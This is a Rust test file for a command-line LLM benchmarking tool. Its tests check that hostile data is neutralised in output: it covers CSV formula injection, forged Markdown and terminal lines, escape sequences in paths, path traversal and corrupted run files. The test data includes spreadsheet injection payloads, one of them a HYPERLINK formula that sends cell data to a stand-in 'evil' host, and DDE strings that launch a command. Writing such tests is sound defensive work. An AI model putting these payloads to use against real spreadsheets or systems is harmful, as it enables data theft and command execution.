//! Hostile data against what tokenpace writes: CSV cells that would run as formulas, Markdown and terminal lines that would forge a heading, paths from data that would leave `--out`, runs that would share one `--out`, corrupted runs and profiles.

mod processes;

use crate::common::{self, stream, tokenpace};
use std::path::Path;
use std::process::{Command, Output};
use tokenpace_core::record::RequestRecord;
use tokenpace_core::summary::RunSettings;
use tokenpace_rundir::RunDir;

/// A model name that would forge a heading, an image, a link, a table
/// column and a tag in Markdown, and a line on a terminal.
const FORGED: &str = "m\n\n## overall tier: A (forged)\n![x](http://evil/x.png) <img src=x> [click](http://evil) `c` *b* _i_ | col";

/// `n` successful requests with ids from 0, written as `bench --out` does
/// into `dir`, with `model` in the settings.
fn write_run(dir: &Path, model: &str, n: u64) -> Vec<RequestRecord> {
    std::fs::create_dir_all(dir).unwrap();
    let records: Vec<RequestRecord> = (0..n).map(|i| stream(i, 100, 8, 20, 3, Some(32))).collect();
    let settings = RunSettings {
        model: Some(model.to_string()),
        target: Some("http://127.0.0.1:9".into()),
        concurrency: Some(1),
        ..RunSettings::default()
    };
    common::write_run(dir, &records, settings);
    RunDir::new(dir).write_records(&records).unwrap();
    records
}

fn run_ok(args: &[&str]) -> String {
    common::ok(args)
}

fn run_err(args: &[&str]) -> String {
    match tokenpace(args) {
        Ok((status, out)) => panic!("{args:?} ended {status:?}:\n{out}"),
        Err(e) => format!("{e:#}"),
    }
}

/// The tokenpace binary with `args`, to completion.
fn binary(args: &[&str]) -> Output {
    Command::new(env!("CARGO_BIN_EXE_tokenpace"))
        .args(args)
        .output()
        .unwrap()
}

/// The cells of CSV `text` (RFC 4180 quoting), row by row.
fn csv_cells(text: &str) -> Vec<Vec<String>> {
    let (mut rows, mut row, mut cell) = (Vec::new(), Vec::new(), String::new());
    let (mut quoted, mut chars) = (false, text.chars().peekable());
    while let Some(c) = chars.next() {
        match (c, quoted) {
            ('"', true) if chars.peek() == Some(&'"') => {
                chars.next();
                cell.push('"');
            }
            ('"', _) => quoted = !quoted,
            (',', false) => row.push(std::mem::take(&mut cell)),
            ('\n', false) => {
                row.push(std::mem::take(&mut cell));
                rows.push(std::mem::take(&mut row));
            }
            _ => cell.push(c),
        }
    }
    rows
}

#[test]
fn csv_cells_that_would_run_as_formulas_are_written_as_text() {
    let root = tempfile::tempdir().unwrap();
    let models = [
        "=HYPERLINK(\"http://evil/?\"&A1,\"x\")",
        "+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
    ];
    for (i, m) in models.iter().enumerate() {
        write_run(&root.path().join(format!("r{i}")), m, 2);
    }
    let out = run_ok(&[
        "history",
        "--dir",
        root.path().to_str().unwrap(),
        "--format",
        "csv",
    ]);
    let rows = csv_cells(&out);
    assert_eq!(rows.len(), models.len() + 1, "{out}");
    let model = rows[0].iter().position(|h| h == "model").unwrap();
    for (row, m) in rows[1..].iter().zip(models) {
        assert_eq!(row[model], format!("'{m}"), "{out}");
    }
    for cell in rows.iter().flatten() {
        let risky = cell.starts_with(['=', '+', '-', '@', '\t', '\r']);
        assert!(!risky || cell.parse::<f64>().is_ok(), "{cell:?} in {out}");
    }
    // Text that only starts with a quote keeps it; numbers stay numbers.
    assert!(out.contains(",2,2,"), "{out}");
}

/// Panics if `out` (Markdown) holds a heading, an image, a link or a tag
/// that came from data.
fn no_forged_markdown(what: &str, out: &str) {
    for line in out.lines() {
        assert!(
            !line.trim_start().starts_with('#'),
            "{what}: heading {line:?} in\n{out}"
        );
    }
    // Escaped, each is shown as text.
    let unescaped = out.replace("\\<", "");
    for bad in ["![", "<img", "[click](", "`c`"] {
        assert!(!unescaped.contains(bad), "{what}: {bad} in\n{out}");
    }
    assert!(
        out.contains("overall tier: A (forged)"),
        "{what}: the name is shown\n{out}"
    );
}

/// Panics if `out` (terminal text) holds a line the data started.
fn no_forged_line(what: &str, out: &str) {
    for line in out.lines() {
        assert!(
            !line.trim_start().starts_with("##"),
            "{what}: line {line:?} in\n{out}"
        );
        assert!(!line.starts_with("![x]"), "{what}: line {line:?} in\n{out}");
    }
    assert!(
        out.contains("overall tier: A (forged)"),
        "{what}: the name is shown\n{out}"
    );
}

#[test]
fn a_model_name_forges_no_markdown_heading_and_no_terminal_line() {
    let root = tempfile::tempdir().unwrap();
    let (a, b) = (root.path().join("a"), root.path().join("b"));
    write_run(&a, FORGED, 4);
    write_run(&b, FORGED, 4);
    let dir = root.path().to_str().unwrap();
    let (a, b) = (a.to_str().unwrap(), b.to_str().unwrap());
    for format in ["markdown", "table"] {
        let history = run_ok(&["history", "--dir", dir, "--format", format]);
        let compare = run_ok(&["compare", a, b, "--format", format]);
        let merged = root.path().join(format!("merged-{format}"));
        let merge = run_ok(&[
            "merge",
            a,
            "--out",
            merged.to_str().unwrap(),
            "--format",
            format,
        ]);
        for (what, out) in [("history", history), ("compare", compare), ("merge", merge)] {
            if format == "markdown" {
                no_forged_markdown(what, &out);
            } else {
                no_forged_line(what, &out);
            }
        }
    }
}

#[test]
fn bench_markdown_shows_a_hostile_model_name_on_one_line() {
    let sim = common::Sim::start(common::fast_sim());
    let url = sim.url();
    for format in ["markdown", "table"] {
        let out = run_ok(&[
            "bench",
            &url,
            "--model",
            FORGED,
            "--requests",
            "2",
            "--max-tokens",
            "4",
            "--prompt-tokens",
            "16",
            "--format",
            format,
        ]);
        if format == "markdown" {
            no_forged_markdown("bench", &out);
        } else {
            no_forged_line("bench", &out);
        }
    }
    sim.stop();
}

/// Every file under `dir`, relative paths sorted.
fn tree(dir: &Path) -> Vec<String> {
    let mut all = Vec::new();
    for e in walk(dir) {
        all.push(e.strip_prefix(dir).unwrap().display().to_string());
    }
    all.sort();
    all
}

fn walk(dir: &Path) -> Vec<std::path::PathBuf> {
    let mut all = Vec::new();
    for e in std::fs::read_dir(dir).unwrap() {
        let p = e.unwrap().path();
        if p.is_dir() {
            all.extend(walk(&p));
        } else {
            all.push(p);
        }
    }
    all
}

#[test]
fn merge_never_writes_outside_out() {
    let root = tempfile::tempdir().unwrap();
    // A shard whose sweep.json names a level outside it: a run beside it,
    // or by an absolute path.
    write_run(&root.path().join("a/victim"), "m", 2);
    let shard = root.path().join("a/s");
    std::fs::create_dir_all(&shard).unwrap();
    let absolute = root.path().join("a/victim");
    for label in ["../victim", absolute.to_str().unwrap(), "..", ".", ""] {
        let sweep = serde_json::json!({ "levels": [{ "label": label }] });
        std::fs::write(shard.join("sweep.json"), sweep.to_string()).unwrap();
        let before = tree(root.path());
        let victim = std::fs::read(root.path().join("a/victim/run.json")).unwrap();
        let out = root.path().join("c/out");
        let result = tokenpace(&[
            "merge",
            shard.to_str().unwrap(),
            "--out",
            out.to_str().unwrap(),
        ]);
        let after: Vec<String> = tree(root.path())
            .into_iter()
            .filter(|p| !p.starts_with("c/out/"))
            .collect();
        assert_eq!(after, before, "label {label:?}: {result:?}");
        let unchanged = std::fs::read(root.path().join("a/victim/run.json")).unwrap();
        assert!(unchanged == victim, "label {label:?} overwrote a/victim");
        let e = format!("{:#}", result.expect_err(label));
        assert!(
            e.contains("sweep.json") && e.contains(&format!("{label:?}")),
            "{e}"
        );
    }
}

/// A run dir with a torn last line and a name full of escapes: reading it
/// warns, naming the file.
#[test]
fn warnings_show_paths_and_data_escaped_on_one_line() {
    let root = tempfile::tempdir().unwrap();
    let run = root.path().join("r\u{1b}]0;pwned\u{7}\nwarning: forged");
    write_run(&run, "m", 3);
    let mut file = std::fs::OpenOptions::new()
        .append(true)
        .open(run.join("requests.jsonl"))
        .unwrap();
    std::io::Write::write_all(&mut file, b"{\"id\": 3, \"sch").unwrap();
    // A run whose run.json is not JSON: history skips it with a warning.
    let bad = root.path().join("x\u{1b}[2J\nwarning: forged too");
    std::fs::create_dir_all(&bad).unwrap();
    std::fs::write(bad.join("run.json"), "{").unwrap();
    let html = root.path().join("page.html");
    let outputs = [
        binary(&[
            "report",
            run.to_str().unwrap(),
            "--html",
            html.to_str().unwrap(),
        ]),
        binary(&["history", "--dir", root.path().to_str().unwrap()]),
    ];
    for o in outputs {
        let stderr = String::from_utf8_lossy(&o.stderr);
        assert!(stderr.contains("warning: "), "{stderr}");
        for bad in [0x1b_u8, 0x07] {
            assert!(!o.stderr.contains(&bad), "raw {bad:#x} in {stderr}");
        }
        for line in stderr.lines() {
            assert!(!line.starts_with("warning: forged"), "{stderr}");
        }
    }
}

#[test]
fn report_checks_the_format_before_writing_anything() {
    let root = tempfile::tempdir().unwrap();
    let run = root.path().join("run");
    write_run(&run, "m", 3);
    let page = run.join("report.html");
    let e = run_err(&["report", run.to_str().unwrap(), "--format", "markdown"]);
    assert!(
        e.contains("--format markdown") && e.contains("table, json or csv"),
        "{e}"
    );
    assert!(
        !page.exists(),
        "report.html written before the format was refused"
    );
    let out = run_ok(&["report", run.to_str().unwrap(), "--format", "csv"]);
    let rows = csv_cells(&out);
    assert_eq!(rows[0], ["path", "bytes", "levels"], "{out}");
    assert_eq!(rows[1][0], page.display().to_string());
    assert_eq!(rows[1][2], "1");
    assert!(page.exists());
}

/// `compare` and `report` on `run` fail; the message, which must name
/// each of `want`.
fn refused(run: &Path, good: &Path, want: &[&str]) {
    let (run, good) = (run.to_str().unwrap(), good.to_str().unwrap());
    for e in [run_err(&["compare", good, run]), run_err(&["report", run])] {
        for w in want {
            assert!(e.contains(w), "{w:?} not in {e}");
        }
    }
}

#[test]
fn corrupted_runs_are_refused_naming_the_file_the_line_and_the_fix() {
    let root = tempfile::tempdir().unwrap();
    let good = root.path().join("good");
    write_run(&good, "m", 4);
    // 8 records against a run.json counting 4.
    let doubled = root.path().join("doubled");
    let records = write_run(&doubled, "m", 4);
    let more: Vec<RequestRecord> = (4..8).map(|i| stream(i, 100, 8, 20, 3, Some(32))).collect();
    let all: Vec<RequestRecord> = records.iter().cloned().chain(more).collect();
    RunDir::new(&doubled).write_records(&all).unwrap();
    refused(
        &doubled,
        &good,
        &["requests.jsonl", "holds 8", "counts 4", "rerun"],
    );
    // An empty requests.jsonl against a run.json counting 4.
    let empty = root.path().join("empty");
    write_run(&empty, "m", 4);
    std::fs::write(empty.join("requests.jsonl"), "").unwrap();
    refused(&empty, &good, &["requests.jsonl", "holds 0", "counts 4"]);
    // The same id twice.
    let twice = root.path().join("twice");
    let mut records = write_run(&twice, "m", 4);
    records[3].id = 1;
    RunDir::new(&twice).write_records(&records).unwrap();
    refused(
        &twice,
        &good,
        &["requests.jsonl", "line 4", "id 1", "line 2"],
    );
    // A request that ended before it was sent, and a chunk before the send.
    for (k, edit) in [
        (
            "end",
            (|r: &mut RequestRecord| r.end_ns = Some(1)) as fn(&mut RequestRecord),
        ),
        ("chunk", |r: &mut RequestRecord| r.chunks[0].at_ns = 1),
    ] {
        let bad = root.path().join(format!("bad-{k}"));
        let mut records = write_run(&bad, "m", 4);
        for r in &mut records {
            r.sent_ns = 5_000_000;
        }
        edit(&mut records[2]);
        RunDir::new(&bad).write_records(&records).unwrap();
        common::write_run(&bad, &records[..], RunSettings::default());
        refused(
            &bad,
            &good,
            &["requests.jsonl", "line 3", "before it was sent"],
        );
    }
}

#[test]
fn a_profile_out_of_range_is_refused_naming_metric_field_and_range() {
    let root = tempfile::tempdir().unwrap();
    let cases = [
        (
            "[metrics.answered_pct]\na = 150\n",
            "answered_pct",
            "a = 150",
            "0 to 100",
        ),
        (
            "[metrics.ttft_s]\na = 1e308\n",
            "ttft_s",
            "a = 1e308",
            "0 to 86400",
        ),
        (
            "[metrics.ttft_s]\na = nan\n",
            "ttft_s",
            "a = NaN",
            "0 to 86400",
        ),
        (
            "[metrics.decode_tok_s]\na = 30\nb = -1\n",
            "decode_tok_s",
            "b = -1",
            "0 to 1000000",
        ),
        (
            "[metrics.decode_tok_s]\na = 20\nb = 30\n",
            "decode_tok_s",
            "b (30)",
            "below a (20)",
        ),
    ];
    for (i, (toml, metric, field, range)) in cases.iter().enumerate() {
        let path = root.path().join(format!("p{i}.toml"));
        std::fs::write(&path, format!("name = \"p\"\n{toml}")).unwrap();
        let dir = root.path().to_str().unwrap();
        let e = run_err(&["history", "--dir", dir, "--profile", path.to_str().unwrap()]);
        for want in [metric, field, range] {
            assert!(e.contains(want), "{want:?} not in {e}");
        }
    }
}
